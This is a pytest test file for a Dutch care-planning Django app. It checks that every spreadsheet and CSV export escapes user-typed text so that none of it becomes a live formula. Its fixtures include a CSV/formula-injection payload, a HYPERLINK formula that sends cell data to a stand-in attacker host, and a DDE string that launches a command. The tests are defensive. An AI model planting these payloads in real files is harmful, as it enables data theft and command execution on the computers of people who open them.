"""Formula injection (issue 11, item 1): text that a resident or a team member typed — an open answer, a
finding's note, a neighbourhood's or a facility's name — is written as text in every spreadsheet and CSV
export, never as a live formula. One test over every writer: put the attack into the user-controlled text,
download the export as a member would, and read the file back."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from zorgzaam.spreadsheets import frame_to_xlsx, protect_frame, safe_text
from zorgzaam.workspaces.models import Role

from .conftest import make_user

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://aanvaller.example/?"&A1,"Klik hier")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _neighbourhood(demo, name: str):
    from zorgzaam.areas import neighbourhood_service as service

    codes = list(demo.neighbourhoods.get(name="Centrum en omgeving").current.sector_codes)
    return service.create_neighbourhood(name, workspace=demo, sectors=codes, created_by="test").neighbourhood


def survey_xlsx(client, demo):
    from zorgzaam.voices import services
    from zorgzaam.voices.models import Respondent, Survey

    survey = Survey.objects.filter(workspace=demo).first()
    Survey.objects.filter(pk=survey.pk).update(status=Survey.OPEN)  # the demo's survey is closed
    answered = Respondent.objects.filter(survey=survey, completed_at__isnull=False)[:6]
    for respondent, text in zip(answered, [ATTACK, *OTHERS], strict=True):  # stored as the public form does
        services.save_answers(respondent, {"needs_open": text}, allow_completed=True)
    url = reverse("voices_staff:survey-download", args=[demo.slug, survey.pk, "xlsx"])
    return client.get(url).content, "xlsx"


def findings_xlsx(client, demo):
    from zorgzaam.plan.findings import refresh_neighbourhood
    from zorgzaam.plan.models import Finding

    neighbourhood = demo.neighbourhoods.get(name="Centrum en omgeving")
    refresh_neighbourhood(neighbourhood)
    finding = Finding.objects.filter(neighbourhood=neighbourhood).first()
    client.post(f"/plan/{demo.slug}/samenvatting/{finding.pk}/", {"status": "accepted", "note": ATTACK})
    assert Finding.objects.get(pk=finding.pk).note == ATTACK
    url = f"/plan/{demo.slug}/samenvatting/?buurt={neighbourhood.pk}&formaat=xlsx"
    return client.get(url).content, "xlsx"


def findings_cli_xlsx(client, demo, tmp_path):
    from zorgzaam.cli import main
    from zorgzaam.plan.models import Finding

    neighbourhood = _neighbourhood(demo, ATTACK)
    from zorgzaam.plan.findings import refresh_neighbourhood

    refresh_neighbourhood(neighbourhood)
    Finding.objects.filter(neighbourhood=neighbourhood).update(note=ATTACK)
    target = tmp_path / "bevindingen.xlsx"
    assert main(["findings", "list", ATTACK, "--xlsx", str(target), "--json"]) == 0
    return target.read_bytes(), "xlsx"


def profile_xlsx(client, demo):
    neighbourhood = _neighbourhood(demo, ATTACK)
    return client.get(f"/profiel/{demo.slug}/buurten/{neighbourhood.pk}/export.xlsx").content, "xlsx"


def profile_csv(client, demo):
    neighbourhood = _neighbourhood(demo, ATTACK)
    return client.get(f"/profiel/{demo.slug}/buurten/{neighbourhood.pk}/export.csv").content, "csv"


def environment_xlsx(client, demo):
    from zorgzaam.areas.models import Area
    from zorgzaam.environment.models import Facility

    neighbourhood = demo.neighbourhoods.get(name="Centrum en omgeving")
    sector = Area.objects.filter(level="sector", code__in=list(neighbourhood.current.sector_codes)).exclude(
        centroid_x=None).first()
    for category in ("gp", "bus_stop"):  # the GP shows up in the 2SFCA sheet too
        Facility.objects.create(workspace=demo, name=ATTACK, category=category, x=sector.centroid_x,
                                y=sector.centroid_y, address="-Kerkstraat 1", source="eigen lijst")
    query = f"doel=buurt:{neighbourhood.pk}&categorie=gp&categorie=bus_stop&afstanden=400+800&tempo=adult"
    return client.get(f"/omgeving/{demo.slug}/document.xlsx?{query}").content, "xlsx"


EXPORTS = [survey_xlsx, findings_xlsx, findings_cli_xlsx, profile_xlsx, profile_csv, environment_xlsx]


@pytest.mark.parametrize("export", EXPORTS, ids=[e.__name__ for e in EXPORTS])
def test_no_export_writes_a_formula(client, demo, export, tmp_path):
    client.force_login(make_user("beheerder-aanval", demo, Role.ADMIN))
    args = (client, demo, tmp_path) if export is findings_cli_xlsx else (client, demo)
    content, kind = export(*args)
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))  # the Dutch dialect
        fields = [field for row in rows for field in row]
        assert "'" + ATTACK in fields  # the attack reached the file, as text
        assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))
                    or (f.startswith("-") and not _number(f))]
        return
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + ATTACK in texts or any(t.startswith("'" + ATTACK) for t in texts)  # it reached the file, as text
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))  # a decimal comma in a download for people
    except ValueError:
        return False
    return True


def test_the_rule_escapes_text_only_and_keeps_numbers():
    import pandas as pd

    assert safe_text(ATTACK) == "'" + ATTACK
    assert [safe_text(t)[0] for t in OTHERS] == ["'"] * len(OTHERS)
    assert safe_text("Kerkstraat 1") == "Kerkstraat 1" and safe_text(-3) == -3 and safe_text(-2.5) == -2.5
    frame = pd.DataFrame({"naam": [ATTACK, "gewoon"], "saldo": [-3.5, 2.0], ATTACK: [1, -1]})
    safe = protect_frame(frame)
    assert list(safe["naam"]) == ["'" + ATTACK, "gewoon"] and list(safe["saldo"]) == [-3.5, 2.0]
    assert "'" + ATTACK in safe.columns and list(safe["'" + ATTACK]) == [1, -1]
    buffer = io.BytesIO()
    frame_to_xlsx(frame, buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + ATTACK
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -3.5  # a negative number stays a number
    assert sheet["C1"].value == "'" + ATTACK and sheet["C3"].value == -1
